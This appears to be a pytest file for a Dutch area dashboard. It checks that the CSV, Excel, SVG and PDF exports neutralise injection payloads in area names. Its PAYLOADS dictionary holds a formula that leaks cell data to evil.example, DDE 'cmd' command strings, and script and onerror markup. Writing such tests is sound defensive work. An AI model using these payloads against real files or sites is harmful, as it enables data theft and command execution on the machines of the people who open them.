"""Injection through editable names: formulas and markup never reach a file live.

Issue 15, point 10. A gebieden file whose names carry payloads (a formula that leaks
data when the file is opened, a DDE command, markup) is loaded the real way; the
batch export then writes CSV, Excel, SVG and the PDF brief for those gebieden. No
text cell may start a formula (OWASP: prefixed with ``'`` and stored as text) and no
picture or PDF may carry the markup.
"""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import pytest
import yaml
from fixtures_app import REPO_ROOT, snapshot_settings
from openpyxl import load_workbook
from pypdf import PdfReader
from test_generations import copy_cache

from dashboard.exports import batch, tables
from dashboard.exports.brief import brief_content, render_brief
from dashboard.exports.images import geojson_from_store, image_server
from dashboard.geo import GeoStore
from dashboard.services import Service
from data_sources.cache import Cache
from data_sources.refresh import refresh

PAYLOADS = {
    "den-haag-zuidwest": '=HYPERLINK("https://evil.example/?leak="&A1,"Zuidwest")',
    "utrecht-overvecht": "+cmd|' /C calc'!A0",
    "rotterdam-zuid": "<script>alert(1)</script>Rotterdam-Zuid",
    "tilburg-noordwest": '<img src=x onerror="alert(1)">Noordwest',
    "groningen-noord": "@SUM(1+1)*cmd|' /C calc'!A0",
    "arnhem-oost": "-2+3+cmd|' /C calc'!A0",
}
MARKUP = ("<script", "onerror", "<img")
# What starts a formula in Excel, LibreOffice and Google Sheets (OWASP CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_service(tmp_path_factory, snapshot_cache) -> Service:
    """The snapshot cache with the gebieden loaded from a file with payload names."""
    folder = tmp_path_factory.mktemp("hostile")
    definition = yaml.safe_load(
        (REPO_ROOT / "data_sources" / "gebieden.yaml").read_text(encoding="utf-8")
    )
    for gebied in definition["gebieden"]:
        gebied["name"] = PAYLOADS.get(gebied["id"], gebied["name"])
    hostile = folder / "gebieden.yaml"
    hostile.write_text(yaml.safe_dump(definition, allow_unicode=True), "utf-8")
    url = copy_cache(snapshot_cache.cache, folder)
    settings = snapshot_settings(folder, snapshot_cache.settings.snapshot_dir, url)
    settings.gebieden_file = hostile
    cache = Cache(url)
    report = refresh(cache, settings, "snapshot", only=["gebieden"])
    assert report.ok, report.outcomes
    service = Service(cache)
    names = {a.id: a.name for a in service.registry.gebieden()}
    assert {g: names[g] for g in PAYLOADS} == PAYLOADS  # the payloads are loaded
    return service


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.slow  # many seconds (the fast lane leaves it out)
def test_csv_and_excel_of_the_batch_export_hold_no_live_formula(
    hostile_service, tmp_path
):
    areas = [hostile_service.area(g) for g in PAYLOADS]
    jobs, _ = batch.plan(hostile_service, areas, ["csv", "xlsx"])
    result = batch.run(jobs, tmp_path)
    assert not result.failures, result.failures
    names_seen = set()
    for path in sorted(tmp_path.glob("*.csv")):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        cells = [c for row in rows[1:] for c in row if c and not is_number(c)]
        assert cells, path  # the check reads real cells
        assert not [c for c in cells if c.startswith(FORMULA_START)], path
        names_seen.update(c for c in cells if c.startswith("'"))
        # read back, the file gives the names as they are in the gebieden file
        frame = tables.read_csv(path.read_bytes())
        assert set(PAYLOADS.values()) & set(frame["area_name"])
    formula_names = {p for p in PAYLOADS.values() if p.startswith(FORMULA_START)}
    assert {"'" + p for p in formula_names} <= names_seen
    for path in sorted(tmp_path.glob("*.xlsx")):
        book = load_workbook(path)
        strings = 0
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate)
                    if isinstance(cell.value, str):
                        strings += 1
                        assert not cell.value.startswith(FORMULA_START), cell.value
        assert strings


@pytest.mark.slow  # many seconds: the full suite runs it, the fast lane not
def test_pictures_and_the_brief_carry_no_markup(hostile_service, tmp_path):
    script, onerror = (hostile_service.area(g) for g in PAYLOADS if "<" in PAYLOADS[g])
    geojson = geojson_from_store(GeoStore(hostile_service))
    with image_server():
        jobs, _ = batch.plan(hostile_service, [script], ["svg"], geojson)
        result = batch.run(jobs, tmp_path)
        assert not result.failures, result.failures
        briefs = [render_brief(brief_content(hostile_service, onerror.id, geojson))]
    pictures = sorted(tmp_path.glob("*.svg"))
    legends = 0
    for path in pictures:
        text = path.read_text(encoding="utf-8")
        assert not [m for m in MARKUP if m in text.lower()], path.name
        root = ET.fromstring(text)
        for element in root.iter():
            assert not element.tag.endswith("script"), path.name
            assert not [a for a in element.attrib if a.lower().startswith("on")]
        legends += "Rotterdam-Zuid" in text
    assert legends  # the names are there, as plain text
    for data in briefs:
        reader = PdfReader(io.BytesIO(data))
        text = reader.pages[0].extract_text() + str(reader.metadata.title)
        assert not [m for m in MARKUP if m in text.lower()]
        assert "Noordwest" in text
